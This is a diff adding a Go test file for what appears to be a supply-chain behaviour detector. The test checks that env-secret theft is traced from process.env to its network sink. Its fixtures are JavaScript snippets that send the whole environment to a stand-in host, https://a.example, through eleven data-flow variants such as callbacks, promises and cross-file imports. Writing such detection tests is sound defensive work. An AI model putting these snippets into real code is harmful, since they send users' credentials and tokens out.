@@ -1,0 +1,53 @@
+package behavior
+
+import (
+	"slices"
+	"strings"
+	"testing"
+)
+
+// TestFlows: the steps that evidence names, from where data comes from to where
+// it leaves, for each way that data can take.
+func TestFlows(t *testing.T) {
+	c := catalogue(t)
+	const send = "const https = require('https'); "
+	for name, test := range map[string]struct {
+		files map[string]string
+		want  []string // first and last step
+	}{
+		"in one line":      {map[string]string{"index.js": send + "https.request('https://a.example').write(JSON.stringify(process.env))"}, []string{"index.js:1 process.env", "index.js:1 https.request#write"}},
+		"a variable":       {map[string]string{"index.js": send + "\nconst all = { ...process.env }\nconst body = JSON.stringify(all)\nfetch('https://a.example', { body })"}, []string{"index.js:2 process.env", "index.js:4 fetch"}},
+		"a parameter":      {map[string]string{"index.js": send + "\nfunction post(body) {\n  fetch('https://a.example', { body })\n}\npost(JSON.stringify(process.env))"}, []string{"index.js:5 process.env", "index.js:3 fetch"}},
+		"a returned value": {map[string]string{"index.js": "function all() {\n  return JSON.stringify(process.env)\n}\nfetch('https://a.example', { body: all() })"}, []string{"index.js:2 process.env", "index.js:4 fetch"}},
+		"a closure":        {map[string]string{"index.js": "const body = JSON.stringify(process.env)\nexports.run = () => {\n  const inner = () => fetch('https://a.example', { body })\n  inner()\n}"}, []string{"index.js:1 process.env", "index.js:3 fetch"}},
+		"a callback":       {map[string]string{"index.js": "const each = (list, f) => f(list)\neach(JSON.stringify(process.env), body => {\n  fetch('https://a.example', { body })\n})"}, []string{"index.js:2 process.env", "index.js:3 fetch"}},
+		"a promise":        {map[string]string{"index.js": "const all = async () => JSON.stringify(process.env)\nall().then(body => {\n  fetch('https://a.example', { body })\n})"}, []string{"index.js:1 process.env", "index.js:3 fetch"}},
+		"awaited":          {map[string]string{"index.js": "const all = async () => JSON.stringify(process.env)\nexports.run = async () => {\n  const body = await all()\n  await fetch('https://a.example', { body })\n}"}, []string{"index.js:1 process.env", "index.js:4 fetch"}},
+		"an exported function": {map[string]string{"index.js": "const { all } = require('./all')\nfetch('https://a.example', { body: all() })",
+			"all.js": "exports.all = function () {\n  return JSON.stringify(process.env)\n}"}, []string{"all.js:2 process.env", "index.js:2 fetch"}},
+		"two files": {map[string]string{"index.js": "require('./send')(require('./all').all())", "all.js": "exports.all = () => JSON.stringify({ env: process.env })",
+			"send.js": "module.exports = body => {\n  fetch('https://a.example', { body })\n}"}, []string{"all.js:1 process.env", "send.js:2 fetch"}},
+		"an import": {map[string]string{"index.mjs": "import { all } from './all.mjs'\nfetch('https://a.example', { body: all })", "all.mjs": "export const all = JSON.stringify(process.env)",
+			"package.json": `{"name": "a", "version": "1.0.0", "main": "index.mjs"}`}, []string{"all.mjs:1 process.env", "index.mjs:2 fetch"}},
+	} {
+		t.Run(name, func(t *testing.T) {
+			files := map[string][]byte{"package.json": []byte(`{"name": "a", "version": "1.0.0"}`)}
+			for file, code := range test.files {
+				files[file] = []byte(code)
+			}
+			var flow []string
+			for _, b := range find(t, c, files).Behaviors {
+				if b.ID == "steal/env-secrets" {
+					flow = b.Evidence[0].Flow
+				}
+			}
+			if len(flow) == 1 { // all in one line
+				flow = strings.SplitAfterN(flow[0], "process.env ", 2)
+				flow = []string{strings.TrimSpace(flow[0]), "index.js:1 " + flow[1]}
+			}
+			if len(flow) < 2 || !slices.Equal([]string{flow[0], flow[len(flow)-1]}, test.want) {
+				t.Errorf("%q, want it to go from %q", flow, test.want)
+			}
+		})
+	}
+}
